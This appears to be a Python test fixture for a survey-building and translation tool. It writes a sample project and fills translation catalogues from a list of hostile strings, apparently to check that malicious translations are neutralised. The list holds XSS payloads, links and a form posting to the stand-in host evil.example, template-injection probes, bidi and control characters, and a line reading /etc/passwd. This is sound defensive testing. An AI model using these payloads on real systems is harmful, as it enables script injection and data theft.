"""A project with every kind of text, and what somebody who means harm translates them with."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

from formsite import ROOT

from mati.build.translating import work_of
from mati.catalog import Message
from mati.diagnostics import Notebook
from mati.merge import Unit, head_of, write_po

SURVEY = """\
---
lang: en
send: own
hidden:
  branch: {pp: Phnom Penh, vt: Vientiane}
reward:
  code: THANKS10
  text: 10 % off your next purchase
  until: 2027-06-30
share:
  title: Tell us
  text: Two minutes of your time
report:
  public: true
  segments: [branch]
---

# Your visit

Welcome to {{branch|our **shop**}}, see [the rules](pages/privacy.md).

Write to <shop@sokha.example>.

![A loaf of bread](bread.png)

- one `thing`
- another  \nthing

## About it {#about}

### How was it in {{branch|our shop}}? {#all}

Say **so**.

- (5) *Very* good
- (3) So-so
- (1) Bad

### Which one? {#which as=dropdown}

- (a) One [here](pages/privacy.md)
- (b) Two
- (other) Other: ___

### How much? {#much}

- (0..10) not at all … very much

### What did you like? {#liked}

- [food] Food
- [staff] Staff

### Put these in order {#order}

1. (x) Price
2. (y) Taste

### How were these? {#these}

| Our work | (5) Good | (1) Bad |
|--|--|--|
| Taste {#taste} | | |
| Looks {#looks} | | |

### Why? {#why placeholder="Because …"}

___
___

### Who are you? {#who}

- Name: ___ {#name}
- Phone: ___ phone {#phone}

### May we call you? {#call kind=consent}

- [yes] I agree to **that**

### Your telephone {#tel kind=contact if="call has yes"}

___ phone

### Faces {#faces as=smileys}

- (mood)

### Stars {#stars as=stars}

- (1..5) poor … great

### Cards {#cards as=cards}

- (a) Left
- (b) Right

## Thanks {#bye end}

**{{reward.code}}**: {{reward.text}} until {{reward.until}}.

## Sorry {#sorry end if="all <= 2"}

We are sorry, see [the rules](pages/privacy.md).
"""
PAGE = "---\nlang: en\n---\n\n# Privacy\n\nWe **keep** it, see [us](https://sokha.example/).\n"
YAML = """\
name: Sokha
url: https://sokha.example
timezone: UTC
languages: [en, {languages}]
scales:
  mood: {{1: Bad, 2: So-so, 3: Good}}
contact:
  phone: "+855 12 345 678"
collect:
  url: https://a.example
"""

ATTACKS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<script/src=//evil.example>",
    "</title><script>alert(1)</script>",
    "</textarea></select></option><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" style="position:fixed" x=\'',
    "<img src=x onerror=alert(1)",
    "<b onclick=x>y</b>",
    "<b><i><u",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https://evil.example/?{{branch}})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.png)",
    '[x](pages/privacy.md "onclick=alert(1)")',
    "[x][y]\n\n[y]: https://evil.example",
    "<https://evil.example>",
    "<evil@evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onclick=alert(1)",
    "<!-- --><script>alert(1)</script><!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "{{ 7331*7 }}",
    "{{7331*7}}",
    "{% for x in y %}",
    "{# x #}",
    "{0.__class__.__mro__}",
    "{n.__class__}",
    "%(x)s %s %n",
    "${7331*7} #{7331*7} <%= 7331*7 %>",
    "x \u202e x",
    "x \u2067 x",
    "x\u2069 x",
    "x \u2028 x",
    "x\x00x\x1ax\x1b[31m",
    "\x1a0\x1a",
    "\ufdd3en\ufdd4<b>\ufdd5",
    '\ufdd3"onclick=alert(1)\ufdd4x\ufdd5',
    "\x02klzzwxh:0000\x03",
    "\\\\\n\n<script>",
    "`<script>`",
    "**<b>**",
    "*" * 300 + "[" * 300,
    "</style><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc=x>",
    "<form action=//evil.example><input name=all value=5>",
    '<input name="all" value="5">',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "\ud7ff\U000e0041\U000e0042",
    "'\"`<>&\\",
    "]]>\"'><script>alert(1)</script>",
    '#set page(width: 1pt)\n#read("/etc/passwd")',
)


def bread() -> bytes:
    """Return the smallest picture there is."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)

    size = struct.pack(">IIBBBBB", 40, 40, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x80" * 40) * 40)
    parts = ((b"IHDR", size), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*part) for part in parts)


def project(root: Path, languages: Iterable[str]) -> dict[str, tuple[Unit, ...]]:
    """Write a project into ``root``; return its texts by catalogue, Mati's own two among them."""
    (root / "content" / "pages").mkdir(parents=True)
    (root / "content" / "visit.md").write_text(SURVEY, "utf-8")
    (root / "content" / "bread.png").write_bytes(bread())
    (root / "content" / "pages" / "privacy.md").write_text(PAGE, "utf-8")
    (root / "mati.yaml").write_text(YAML.format(languages=", ".join(languages)), "utf-8")
    notes = Notebook()
    own = work_of(root, notes).domains
    assert not notes.has_errors(), [(d.code.slug, d.values) for d in notes]
    ours = work_of(ROOT, Notebook()).domains
    return {**own, "mati": ours["mati"], "mati-cli": ours["mati-cli"]}


def write(
    root: Path,
    language: str,
    domains: dict[str, tuple[Unit, ...]],
    words: Callable[[int, Unit], str],
) -> None:
    """Write the catalogues of one language, each text translated by ``words``."""
    folder = root / "locales" / language
    folder.mkdir(parents=True, exist_ok=True)
    for domain, units in domains.items():
        messages = [
            Message(unit.context, unit.msgid, (words(number, unit),))
            for number, unit in enumerate(units)
        ]
        text = write_po(head_of(language, "Visit"), messages)
        (folder / f"{domain}.po").write_bytes(text.encode("utf-8", "surrogatepass"))
